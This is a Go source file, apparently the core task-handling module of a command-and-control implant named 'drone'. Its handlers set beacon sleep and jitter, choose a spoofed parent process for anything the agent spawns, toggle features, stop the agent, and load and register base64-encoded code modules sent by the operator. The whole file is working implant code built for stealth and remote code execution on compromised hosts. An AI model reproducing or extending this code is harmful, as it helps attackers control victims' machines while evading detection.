package core

import (
	"context"
	"encoding/base64"
	"fmt"
	"math"

	"drone/internal/errors"
	"drone/internal/process"
	"drone/internal/settings"
	"drone/internal/task"
)

// sleep updates SleepInterval and SleepJitter.  Absent parameters keep
// their current value; if either present value is invalid, neither is
// written.
func (m *Module) sleep(_ context.Context, _ string, payload []byte) error {
	params, err := task.Decode(payload)
	if err != nil {
		return err
	}

	updates := []struct {
		param string
		key   settings.Key
	}{
		{"Interval", settings.SleepInterval},
		{"Jitter", settings.SleepJitter},
	}

	pending := make(map[settings.Key]interface{}, len(updates))
	for _, u := range updates {
		v := params.Lookup(u.param)
		if v.IsAbsent() {
			continue
		}
		if v.Kind() != task.KindInt {
			return errors.Invalid(u.param, v, "expected an integer, got %s", v.Kind())
		}
		norm, err := settings.Check(u.key, v.Int())
		if err != nil {
			return err
		}
		pending[u.key] = norm
	}

	for _, u := range updates {
		if v, ok := pending[u.key]; ok {
			if err := m.store.Set(u.key, v); err != nil {
				return err
			}
		}
	}
	if len(pending) > 0 {
		m.logger.Verbose("sleep set to %ds, jitter %d%%",
			m.store.Int(settings.SleepInterval), m.store.Int(settings.SleepJitter))
	}
	return nil
}

// ppid selects the parent process for anything the agent spawns.
// Without a PPID parameter the agent's own process is used.
func (m *Module) ppid(_ context.Context, _ string, payload []byte) error {
	params, err := task.Decode(payload)
	if err != nil {
		return err
	}

	var p process.Process
	switch v := params.Lookup("PPID"); v.Kind() {
	case task.KindAbsent:
		p, err = m.resolver.Current()
	case task.KindInt:
		if v.Int() <= 0 || v.Int() > math.MaxInt32 {
			return errors.Invalid("PPID", v, "process id must be between 1 and %d", math.MaxInt32)
		}
		p, err = m.resolver.FindByID(int(v.Int()))
	default:
		return errors.Invalid("PPID", v, "expected an integer, got %s", v.Kind())
	}
	if err != nil {
		return err
	}

	if err := m.store.Set(settings.ParentProcessID, p.PID); err != nil {
		return err
	}
	m.agent.SendMessage(fmt.Sprintf("Using PID %d (%s) as parent process.", p.PID, p.Name))
	return nil
}

// toggle returns the handler shared by the boolean switches.  The
// parameter carries the key's own name.  The reported state is read
// back from the store after any write.
func (m *Module) toggle(key settings.Key) func(context.Context, string, []byte) error {
	return func(_ context.Context, _ string, payload []byte) error {
		params, err := task.Decode(payload)
		if err != nil {
			return err
		}

		switch v := params.Lookup(key.String()); v.Kind() {
		case task.KindAbsent:
		case task.KindBool:
			if err := m.store.Set(key, v.Bool()); err != nil {
				return err
			}
		default:
			return errors.Invalid(key.String(), v, "expected a boolean, got %s", v.Kind())
		}

		state := "disabled"
		if m.store.Bool(key) {
			state = "enabled"
		}
		m.agent.SendMessage(fmt.Sprintf("%s is %s.", key, state))
		return nil
	}
}

func (m *Module) exit(context.Context, string, []byte) error {
	m.logger.Info("exit requested")
	m.agent.Stop()
	return nil
}

// loadModule loads the module carried in the Assembly parameter, as a
// base64 string or raw bytes, and registers it with the agent.
func (m *Module) loadModule(ctx context.Context, _ string, payload []byte) error {
	params, err := task.Decode(payload)
	if err != nil {
		return err
	}

	var blob []byte
	switch v := params.Lookup("Assembly"); v.Kind() {
	case task.KindAbsent:
		return errors.Invalid("Assembly", nil, "no module supplied")
	case task.KindBytes:
		blob = v.Bytes()
	case task.KindString:
		blob, err = base64.StdEncoding.DecodeString(v.Text())
		if err != nil {
			return errors.Load("decode", err)
		}
	default:
		return errors.Invalid("Assembly", v, "expected base64 text or bytes, got %s", v.Kind())
	}
	if len(blob) == 0 {
		return errors.Invalid("Assembly", nil, "module is empty")
	}
	if m.loader == nil {
		return errors.Load("load", errors.New("no module loader configured"))
	}

	d, err := m.loader.Load(ctx, blob)
	if err != nil {
		return err
	}
	if err := m.agent.RegisterModule(d); err != nil {
		return err
	}
	m.agent.SendMessage("Registered module: " + d.Name)
	return nil
}
